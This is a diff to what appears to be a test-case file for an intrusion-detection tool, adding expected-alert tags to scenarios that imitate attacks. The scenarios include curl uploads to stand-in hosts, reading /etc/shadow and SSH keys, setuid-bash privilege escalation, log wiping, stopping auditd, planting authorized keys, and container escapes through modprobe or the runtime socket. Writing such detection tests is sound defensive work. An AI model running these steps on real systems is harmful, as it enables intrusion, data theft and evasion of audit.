@@ -1,47 +1,87 @@
 ## Shell of a server connects out
+#also Download tool started by a server
+#also Shell started by a network server
 server 'curl -s http://203.0.113.9/'
 ## File written by a server, then run
+#also Shell started by a network server
 #setup mkdir -p /srv/up
 server 'cp /bin/true /srv/up/x'; /srv/up/x
 ## Server's command looks around, then downloads
+#also Download tool started by a server
+#also Identity asked from a service's shell
+#also Shell of a server connects out
+#also Shell started by a network server
 server 'id; uname -a; curl -s http://10.9.8.7/'
 ## Script put into a web folder, then a shell of the server
+#also Shell started by a network server
 #setup mkdir -p /var/www/html
 echo x > /var/www/html/s.php; server true
 ## Downloaded script run
+#also Interpreter runs a script from a scratch folder
 #setup web
 curl -s -o /tmp/i.sh http://10.9.8.7:8000/true; bash /tmp/i.sh
 ## Program in a scratch folder run, then removed
+#also Executable run from a scratch folder
 cp /bin/true /tmp/x; /tmp/x; rm -f /tmp/x
 ## Program in a scratch folder made executable, then run
+#also Executable run from a scratch folder
 cat /bin/true > /tmp/x; chmod +x /tmp/x; /tmp/x
 ## File in memory made, then run
+#also Executable run from memory
+#also Interpreter makes a file in memory
 python3 -c '
 import os
 fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execve(fd, ["x"], {})'
 ## Execution refused, then done another way
+#also Execution refused in a scratch folder
 echo true > /tmp/x; /tmp/x; sh /tmp/x
 ## Set-user-id program made, then used
+#also Executable run from a scratch folder
+#also Program in a scratch folder made executable, then run
+#also Set-user-id bit or capability given to a file
+#also Set-user-id bit set in a scratch folder
+#also Set-user-id program raised privileges to root
 cp /bin/bash /var/tmp/b; chmod 4755 /var/tmp/b; setpriv --reuid 1000 --clear-groups /var/tmp/b -p -c true
 ## Raised to root, then a log emptied
+#also Set-user-id program raised privileges to root
+#also Shell with raised privileges
 #setup mkdir /opt/y; cp /bin/bash /opt/y/bash; chmod 4755 /opt/y/bash; mkdir -p /var/log/nginx
 setpriv --reuid 1000 --clear-groups /opt/y/bash -p -c ': > /var/log/nginx/access.log; true'
 ## Way to root looked for in all directions
+#also Files searched for ways to root
 id; find /home -perm -4000; cat /etc/passwd
 ## Key read, then a login elsewhere
+#also Private SSH key read
 #setup mkdir -p /root/.ssh; echo k > /root/.ssh/id_ed25519
 cat /root/.ssh/id_ed25519; ssh -o BatchMode=yes 10.9.8.7
 ## Secret read, then a connection to the internet
+#also Password hashes read
 cat /etc/shadow; curl -s http://203.0.113.9/
 ## Archive made, then sent away
+#also Folders of people packed into a scratch folder
 tar cf /tmp/x.tar /etc/hosts; curl -s -T /tmp/x.tar http://10.9.8.7/
 ## Guard stopped, then the kernel changed or a log emptied
+#also Log files cleared
+#also Security tool stopped
+#also Security tools looked for
 systemctl stop auditd; : > /var/log/auth.log
 ## Module loaded, then its file removed
+#also Kernel module loaded from a file
 : > /tmp/rk.ko; busybox insmod /tmp/rk.ko; rm -f /tmp/rk.ko
 ## Reverse shell given a terminal
+#also Command of a reverse shell
+#also Connection to a mining pool
+#also Input and output tied to a connection with another machine
+#also Reverse shell
+#also Reverse shell by bash's own network
+#also Shell connects to the network
+#also Terminal made for a shell
 remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 ## Downloaded program connects to a mining port
+#also Connection to a mining pool
+#also Downloaded file executed
+#also Executable run from a scratch folder
+#also Program in a scratch folder made executable, then run
 #setup web
 curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203.0.113.9 3333
 ## Services stopped, then files encrypted
@@ -53,9 +93,11 @@ import socket
 for port in list(range(30, 50)) + [22]:
   s = socket.socket(); s.connect_ex(("10.9.8.7", port)); s.close()'
 ## Shell in a container by exec, then a download
+#also Download tool in a container
 #setup image
 engine; docker run -d --name web --network none debian:12 sleep 100; docker cp /bin/true web:/usr/bin/curl; docker exec -t web sh -c 'curl http://10.9.8.7/; :'
 ## Process changed, then a connection of its own
+#also Code put into another process
 python3 -c '
 import ctypes, os, socket, time
 word = ctypes.create_string_buffer(8); child = os.fork()
@@ -64,6 +106,8 @@ if child == 0:
 ptrace = ctypes.CDLL(None).ptrace; ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
 ptrace(16, child, None, None); os.waitpid(child, 0); ptrace(5, child, ctypes.addressof(word), 1); ptrace(17, child, None, None); os.waitpid(child, 0)'
 ## Root refused, then had
+#also Privileges of root refused
+#also Process became root without a set-user-id program
 setpriv --reuid 1000 --clear-groups --inh-caps +setuid --ambient-caps +setuid python3 -c '
 import ctypes, os
 libc = ctypes.CDLL(None); head = (ctypes.c_uint * 2)(0x20080522, 0); sets = (ctypes.c_uint * 6)()
@@ -72,30 +116,45 @@ try: os.setuid(0)
 except PermissionError: pass
 sets[0] |= 128; libc.capset(head, sets); os.setuid(0)'
 ## Logins guessed, then one that worked
-#setup logins; logged
+#also Login from the internet with a password
+#setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
-for n in 1 2 3 4; do login wrong ann 3 & done; wait; login right ann; written
+for n in 1 2 3 4; do login wrong ann 3 & done; wait; login right ann; end_log
 ## Sudo refused, then allowed
-#setup logins; echo 'ann ALL=(ALL) ALL' > /etc/sudoers.d/ann; chmod 440 /etc/sudoers.d/ann; logged
-for word in wrong wrong wrong right; do echo $word | setpriv --reuid 1000 --regid 1000 --clear-groups sudo -S -p '' id; done; written
+#also Sudo refused several times
+#setup prepare_sshd; echo 'ann ALL=(ALL) ALL' > /etc/sudoers.d/ann; chmod 440 /etc/sudoers.d/ann; start_log
+for word in wrong wrong wrong right; do echo $word | setpriv --reuid 1000 --regid 1000 --clear-groups sudo -S -p '' id; done; end_log
 ## Account made, then given the rights of root
-#setup logged
-useradd -m -s /bin/bash eve; usermod -aG sudo eve; written
+#also Login account created
+#also User added to a group of administrators
+#setup start_log
+useradd -m -s /bin/bash eve; usermod -aG sudo eve; end_log
 ## Account made, then used
-#setup logins; logged
+#also Login account created
+#also Login from the internet with a password
+#setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
-useradd -m -s /bin/sh eve; echo eve:right | chpasswd; login right eve; written
+useradd -m -s /bin/sh eve; echo eve:right | chpasswd; login right eve; end_log
 ## Key planted, then used
-#setup logins; logged; ssh-keygen -q -t ed25519 -N '' -f /srv/key
+#also SSH authorized keys written
+#setup prepare_sshd; start_log; ssh-keygen -q -t ed25519 -N '' -f /srv/key
 /usr/sbin/sshd -f /srv/sshd
 mkdir -p /home/ann/.ssh; cat /srv/key.pub >> /home/ann/.ssh/authorized_keys; chown -R 1000:1000 /home/ann/.ssh
-ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -i /srv/key ann@203.0.113.9 true; written
+ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -i /srv/key ann@203.0.113.9 true; end_log
 ## Helper of the kernel named by a container, then run
+#also Executable run from a scratch folder
+#also Kernel helper changed by a container
+#also Release agent or core pattern written
+#also Suspicious Process Execution
 #in shop:1
 #guest no namespace keeps what the kernel starts apart
-#setup named /var/tmp/x; printf '\377\377\377\377' > /var/tmp/y; chmod 755 /var/tmp/y
-was=$(cat /proc/sys/kernel/modprobe); echo /var/tmp/x > /proc/sys/kernel/modprobe; /var/tmp/y; sleep 2; echo "$was" > /proc/sys/kernel/modprobe; looked
+#setup stubs /var/tmp/x; printf '\377\377\377\377' > /var/tmp/y; chmod 755 /var/tmp/y
+was=$(cat /proc/sys/kernel/modprobe); echo /var/tmp/x > /proc/sys/kernel/modprobe; /var/tmp/y; sleep 2; echo "$was" > /proc/sys/kernel/modprobe; checked
 ## Runtime's socket used, then a privileged container
+#also Client of a container engine started in a container
+#also Container runtime socket used from a container
+#also Privileged container started
+#also Suspicious Process Execution
 #in shop:1
 #guest a container has no more rights than who starts it, and root has not all of them everywhere
 #setup image; (echo 0 > /sys/fs/cgroup/cgroup.procs; engine /docker)
